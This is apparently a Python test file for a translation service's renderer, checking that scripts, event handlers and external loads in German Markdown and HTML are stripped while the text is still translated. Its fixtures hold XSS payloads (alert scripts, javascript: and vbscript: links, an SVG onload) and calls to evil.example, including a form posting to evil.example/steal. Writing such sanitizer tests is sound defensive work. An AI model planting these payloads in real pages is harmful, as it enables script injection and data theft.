"""Nothing of a source that runs or loads code reaches a rendering, in Markdown or in HTML, and
no translated word is put inside it (outside testers' findings; service/rendering/inert.py)."""

from __future__ import annotations

from lxml import html as lxml_html

from service.rendering import render_document
from tests.service.rendering.test_render_offline import aligned


def nineteen(text: str) -> str:
    return " ".join("19" for _ in text.split())


MARKDOWN = """# Der Bericht

Die Regierung sagte am Montag etwas. <script>alert(1)</script> Dann kam
<span onmouseover="alert(2)" class="person">der Minister</span> zurück, <b style="background: url(https://evil.example/x.png)">spät</b>.

<div onclick="alert(3)">Ein Kasten</div>

<script>
alert(4)
</script>

Mehr <a href="javascript:alert(5)">hier</a> und <iframe src="https://evil.example/"></iframe> dort.
"""


def test_markdown_raw_html_that_runs_is_neither_translated_nor_kept() -> None:
    document = aligned(MARKDOWN, "markdown", nineteen)
    sent = " ".join(s.text for s in document.all_segments())
    assert "alert" not in sent  # the script's text is never sent to a model
    markdown = render_document(document, MARKDOWN, None, "en", "markdown").content.decode()
    for active in ("<script", "alert", "onmouseover", "onclick", "url(", "javascript:", "<iframe"):
        assert active not in markdown, (active, markdown)
    assert '<span class="person">19 19</span>' in markdown  # the element stays, without its handler
    assert "<b>19</b>" in markdown and "<div>19 19</div>" in markdown  # an HTML block's text is translated
    page = render_document(document, MARKDOWN, None, "en", "html").content.decode()
    for active in ("<script", "alert", "onmouseover", "onclick", "url(", "javascript:", "<iframe"):
        assert active not in page, (active, page)
    for german in ("Regierung", "Minister", "spät", "Mehr", "hier"):  # translated all the same
        assert german not in markdown and german not in page, german


def test_markdown_json_ld_data_stays_as_it_was() -> None:
    source = 'Die Regierung sagte etwas. <script type="application/ld+json">{"a": 1}</script> Mehr.\n'
    document = aligned(source, "markdown", nineteen)
    assert "{" not in " ".join(s.text for s in document.all_segments())
    rendered = render_document(document, source, None, "en", "markdown").content.decode()
    assert '<script type="application/ld+json">{"a": 1}</script>' in rendered


UNCLOSED = """# Der Bericht

Die Regierung sagte am Montag etwas. <script>alert(1) Dann kam der Minister zurück. Er sagte nichts.

Ende des Berichts hier.
"""


def test_an_unclosed_script_in_a_paragraph_hides_nothing_and_runs_nothing() -> None:
    """Found by an outside attack: an inline <script> never closed in its paragraph swallowed the
    rest of it, neither translated nor rendered. Its tag goes; what follows is text, translated."""
    document = aligned(UNCLOSED, "markdown", nineteen)
    sent = " ".join(s.text for s in document.all_segments())
    assert "Dann kam der Minister zurück." in sent and "Er sagte nichts." in sent and "<script" not in sent
    markdown = render_document(document, UNCLOSED, None, "en", "markdown").content.decode()
    page = render_document(document, UNCLOSED, None, "en", "html").content.decode()
    for rendered in (markdown, page):
        for word in ("<script", "Minister", "Regierung"):
            assert word not in rendered, (word, rendered)
    assert "19 19 19 19 19 19 19 19 19 19 19 19 19" in markdown, markdown  # the whole paragraph
    assert lxml_html.fromstring(page).xpath("//script") == []


HTML = """<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><title>Der Bericht</title>
<link rel="stylesheet" href="https://evil.example/x.css">
<link rel="preload" as="script" href="https://evil.example/x.js">
<link rel="canonical" href="https://example.org/bericht">
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<meta http-equiv="set-cookie" content="a=b">
<base href="https://evil.example/">
<style>body { background: url("javascript:alert(1)") }</style>
<style>p { color: black }</style>
</head><body><article><h1>Der Bericht</h1>
<p>Die Regierung sagte am Montag, die Truppen seien sicher zurückgekehrt.</p>
<p style="background-image: url(https://evil.example/track.gif)">
Ein Sprecher sagte, man beobachte die Lage.</p>
<p>Mehr dazu <a href="https://example.org/mehr">auf der Seite</a> und
<a href="vbscript:msgbox(1)">hier</a>.</p>
<form action="https://evil.example/steal" method="post"><input name="q">
<button formaction="//evil.example/b">Los</button></form>
<form action="/suche"><input name="q"></form>
<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="x"><img src="/bild.jpg" alt="Bild">
</article></body></html>"""


def test_html_render_keeps_nothing_that_loads_code_from_elsewhere() -> None:
    document = aligned(HTML, "html", nineteen)
    page = render_document(document, HTML, None, "en", "html").content.decode()
    root = lxml_html.document_fromstring(page)
    assert [link.get("rel") for link in root.iter("link")] == ["canonical"]
    assert not root.xpath("//meta[@http-equiv]") and not root.xpath("//base")
    assert [style.text for style in root.iter("style")] == ["p { color: black }"]
    assert "url(" not in page and "evil.example" not in page and "vbscript" not in page
    assert [form.get("action") for form in root.iter("form")] == [None, "/suche"]
    assert [img.get("src") for img in root.iter("img")] == [None, "/bild.jpg"]
    assert root.xpath("//a/@href") == ["https://example.org/mehr"]
    assert set(root.xpath("//p")[1].text_content().split()) == {"19"}  # translated all the same


NESTED = """# Der Bericht

> Die Regierung sagte am Montag etwas.
>
> <script>
> alert(1)
> </script>

- Ein Punkt der Liste.
- <div onclick="alert(2)">Kasten</div>
- Noch ein Punkt.

Ende des Berichts hier.
"""


def test_markdown_html_blocks_in_quotes_and_lists_lose_what_runs_and_keep_their_container() -> None:
    document = aligned(NESTED, "markdown", nineteen)
    rendered = render_document(document, NESTED, None, "en", "markdown").content.decode()
    assert "alert" not in rendered and "<script" not in rendered and "onclick" not in rendered, rendered
    assert "- <div>19</div>\n- 19 19 19" in rendered and "> 19 19 19 19 19 19\n>" in rendered, rendered
